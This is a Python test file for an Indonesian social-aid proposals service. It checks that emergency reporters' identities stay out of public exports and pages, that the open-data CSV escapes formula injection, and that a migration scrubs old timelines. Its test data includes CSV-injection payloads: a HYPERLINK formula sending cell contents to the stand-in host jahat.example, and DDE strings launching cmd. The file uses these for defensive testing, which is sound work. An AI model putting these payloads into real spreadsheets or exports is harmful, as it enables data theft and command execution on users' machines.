"""What the public reads is an allow-list of public facts: private text (who reported an
emergency) never reaches the registry, its exports or its pages, and the open-data CSV cannot
carry a spreadsheet formula. Also the migration that took reporters out of old timelines.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

from sqlalchemy.orm import Session

from servicekit.database import make_engine
from servicekit.migrate import upgrade
from services.proposals.contract.replies import EXPORT_FIELDS, ApplicationSchema
from services.proposals.models import Applicant, Proposal, StageChange
from tests.proposals.conftest import (
    THIS_YEAR,
    citizen,
    create_applicant,
    create_draft,
    fresh_point,
    individual_body,
    public_responses,
    upload_checklist,
)
from tests.support.factories import auth

REPORTER_NAME = "Jajang Sutisna Kades"
REPORTER_NIK = "3604011203750002"
REPORTER_PHONE = "081298765432"
REPORTED_BY = f"Kepala Desa {REPORTER_NAME}, NIK {REPORTER_NIK}, HP {REPORTER_PHONE}"


def open_emergency(client, who: dict, reported_by: str) -> dict:
    point = fresh_point()
    body = {
        "beneficiary": individual_body(point),
        "reported_by": reported_by,
        "budget_year": THIS_YEAR,
        "title": "Bantuan korban banjir bandang",
        "purpose": "Bantuan darurat bagi keluarga yang rumahnya hanyut.",
        "category": "sosial",
        "requested_amount": 4_000_000,
        "cost_lines": [{"item": "Paket pangan dan sandang", "amount": 4_000_000}],
        "lat": point["lat"],
        "lon": point["lon"],
    }
    response = client.post("/api/v1/proposals/emergency", json=body, headers=auth(who["token"]))
    assert response.status_code == 201, response.get_json()
    return response.get_json()


def test_who_reported_an_emergency_is_in_no_public_json_csv_or_page(client, staff):
    opened = open_emergency(client, staff["dinsos_officer"], REPORTED_BY)
    pid = opened["public_id"]
    texts = public_responses(client, pid)
    texts["page"] = client.get(f"/usulan/{pid}").get_data(as_text=True)
    texts["list page"] = client.get("/usulan", query_string={"per_page": 100}).get_data(
        as_text=True
    )
    assert pid in texts["entry"] and pid in texts["page"] and pid in texts["csv"]
    for name, body in texts.items():
        for secret in (REPORTER_NAME, REPORTER_NIK, REPORTER_PHONE):
            assert secret not in body, f"{name} shows {secret}"
    entry = json.loads(texts["entry"])
    [opening] = entry["timeline"]
    assert opening["note"] and opening["to_stage"] == "submitted"

    # the staff handling it still know who reported it
    private = client.get(
        f"/api/v1/proposals/{pid}", headers=auth(staff["dinsos_officer"]["token"])
    ).get_json()
    assert private["source_note"] == REPORTED_BY
    log = client.get(
        f"/api/v1/proposals/{pid}/audit", headers=auth(staff["dinsos"]["token"])
    ).get_json()
    assert log["entries"][0]["data"]["reported_by"] == REPORTED_BY


DANGEROUS = {
    "=": '=HYPERLINK("http://jahat.example/?d="&A1,"Klik")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1 tab di depan",
    "\r": "\r=1+1 CR di depan",
}


def test_the_open_data_csv_never_starts_a_cell_with_a_formula(client):
    owner = citizen(client)
    name = DANGEROUS["="]
    organisation = create_applicant(client, owner["token"], name=name, bank_account_name=name)
    ids = {}
    for first, title in DANGEROUS.items():
        draft = create_draft(client, owner["token"], organisation["id"], title=title)
        upload_checklist(client, owner["token"], draft)
        submit = client.post(
            f"/api/v1/proposals/{draft['public_id']}/submit", json={}, headers=auth(owner["token"])
        )
        assert submit.status_code == 200, submit.get_json()
        ids[draft["public_id"]] = first

    response = client.get("/api/v1/registry/proposals.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text[1:], newline="")))
    assert list(rows[0]) == list(EXPORT_FIELDS)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    for public_id, first in ids.items():
        row = next(r for r in rows if r["Identifier"].endswith(public_id))
        assert row["Title"] == "'" + DANGEROUS[first], first
        assert row["Recipient Org:Name"] == "'" + name
    # the JSON export (of proposals not yet awarded, as these) keeps the text as it is (JSON is
    # not run), with only declared fields
    found = client.get("/api/v1/registry/applications.json").get_json()["applications"]
    mine = [a for a in found if any(a["id"].endswith(p) for p in ids)]
    assert {a["title"] for a in mine} == set(DANGEROUS.values())
    allowed = set(ApplicationSchema().fields)
    assert all(set(a) <= allowed for a in found)


def test_the_migration_takes_reporters_out_of_old_timelines(databases, backend):
    url = databases.create("proposals", backend, migrate=False)
    upgrade("proposals", url, "0002")
    engine = make_engine(url)
    now = datetime.now(UTC)
    with Session(engine) as session, session.begin():
        person = Applicant(kind="individual", name="Sarip Hidayat", created_at=now, updated_at=now)
        session.add(person)
        session.flush()
        proposal = Proposal(
            applicant_id=person.id,
            kind="bansos",
            bansos_type="unplanned",
            budget_year=THIS_YEAR,
            title="Bantuan korban kebakaran",
            purpose="Bantuan darurat.",
            category="sosial",
            agency_code="DINSOS",
            requested_amount=1_000_000,
            lat=-6.1,
            lon=106.2,
            stage="submitted",
            stage_since=now,
            created_at=now,
            updated_at=now,
            submitted_at=now,
            public_id=f"SO-{THIS_YEAR}-000001",
            source_note=REPORTED_BY,
        )
        session.add(proposal)
        session.flush()
        for action, note in (("open_emergency", REPORTED_BY), ("complete", "Lengkap.")):
            session.add(
                StageChange(
                    proposal_id=proposal.id,
                    at=now,
                    action=action,
                    from_stage=None,
                    to_stage="submitted",
                    actor_label="DINSOS",
                    note=note,
                )
            )
    upgrade("proposals", url)
    with Session(engine) as session:
        notes = dict(session.query(StageChange.action, StageChange.note).all())
        kept = session.query(Proposal.source_note).scalar()
    engine.dispose()
    assert REPORTER_NIK not in notes["open_emergency"] and notes["open_emergency"]
    assert notes["complete"] == "Lengkap."  # other notes are the staff's public words
    assert kept == REPORTED_BY  # the private record stays
